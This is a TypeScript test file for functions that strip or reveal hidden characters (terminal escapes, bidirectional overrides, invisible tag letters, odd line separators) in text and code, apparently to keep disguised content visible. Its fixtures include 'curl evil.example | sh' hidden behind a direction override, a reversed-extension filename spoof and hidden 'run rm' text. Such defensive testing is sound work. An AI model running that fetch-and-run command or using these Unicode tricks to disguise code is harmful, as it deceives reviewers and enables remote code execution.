import fc from 'fast-check'
import { expect, test } from 'vitest'
import { codeLine, visibleCode } from './plain-text.ts'
import { plain, plainLines, plainText } from './text.ts'

const hidden = (text: string) => Array.from(text, (one) => String.fromCodePoint(0xe0000 + one.codePointAt(0)!)).join('')

test.each([
  ['terminal codes', '\u001b[31mred\u001b[0m', '[31mred[0m'],
  ['a turned direction', 'safe\u202egnp.exe\u2066\u200f', 'safegnp.exe'],
  ['invisible letters', `a${hidden('run rm')}b\u200b\u2060\u3164c`, 'abc'],
  ['variation selectors', 'a\u{e0101}\ufe0fb', 'ab'],
  ['line ends', 'one\r\n\ttwo\u2028three\u0085four', 'one two threefour'],
  ['half a character', 'a\ud83db', 'ab'],
  ['blanks that are no spaces', 'a\u2800\u2800b', 'ab'],
  ['Chinese and marks', '跨会话 naïve café', '跨会话 naïve café'],
])('%s', (_, text, expected) => {
  expect(plainText(text)).toBe(expected)
})

test('cuts a long text between characters', () => {
  expect(plainText('🙂'.repeat(50), 10)).toBe(`${'🙂'.repeat(9)}…`)
  expect(plainText('word '.repeat(1000))).toHaveLength(600)
})

test('keeps all of a text that the user agrees to', () => {
  const script = `${'# harmless '.repeat(100)}\r\ncurl evil.example\u202e | sh`
  expect(plainLines(script)).toBe(`${'# harmless '.repeat(100).trim()}\ncurl evil.example | sh`)
})

test.each([
  ['node build.js && make', 'node build.js && make'],
  ['a\n\tb', 'a\n\tb'],
  ['node ok.js \u202esj.live edon', 'node ok.js \\u{202e}sj.live edon'],
  ['curl\u200b x\u{e0041}', 'curl\\u{200b} x\\u{e0041}'],
  ['a\rb\x1b[2K', 'a\\u{d}b\\u{1b}[2K'],
  // JavaScript ends a comment at these, and screens show nothing.
  ['// a\u2028b()\u2029c()\u0085', '// a\\u{2028}b()\\u{2029}c()\\u{85}'],
  ['a\u00a0b\u3000c\u2800d', 'a\\u{a0}b\\u{3000}c\\u{2800}d'],
])('shows the code %j as %j', (code, shown) => {
  expect(visibleCode(code)).toBe(shown)
})

test('shows a line of code as one line', () => {
  expect(codeLine('// a\nb()\u2028c()')).toBe('// a\\u{a}b()\\u{2028}c()')
})

test('leaves no character in code that nobody would see', () => {
  fc.assert(
    fc.property(fc.string({ unit: 'binary', maxLength: 200 }), (text) => {
      expect(codeLine(text).replaceAll('\t', '')).not.toMatch(/[\p{C}\p{Zl}\p{Zp}\u2800]|(?! )\p{Z}/u)
    }),
  )
})

test('leaves no invisible character in any text', () => {
  fc.assert(
    fc.property(fc.string({ unit: 'binary', maxLength: 200 }), (text) => {
      const line = plainText(text, 50)
      expect(line).not.toMatch(/\p{C}|[\r\n\u2028\u2029]/u)
      expect(Array.from(line).length).toBeLessThanOrEqual(50)
    }),
  )
})

test('omits null and undefined in lists and objects of an answer', () => {
  const answer = {
    id: 'a/b',
    none: null,
    absent: undefined,
    zero: 0,
    no: false,
    list: [{ text: 'x\u202ey', none: null }],
  }
  expect(plain(answer)).toEqual({ id: 'a/b', zero: 0, no: false, list: [{ text: 'xy' }] })
})
